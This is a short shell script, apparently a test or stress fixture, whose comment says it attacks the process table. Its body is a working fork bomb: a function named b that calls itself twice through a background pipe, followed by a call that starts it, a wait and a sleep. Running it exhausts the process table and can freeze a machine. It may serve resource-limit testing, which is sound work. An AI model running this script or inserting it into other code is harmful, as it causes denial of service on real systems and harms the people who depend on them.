#!/bin/sh
# Attacks: the process table with the classic one-line shell bomb.
b() { b | b & }
b
wait
sleep 10
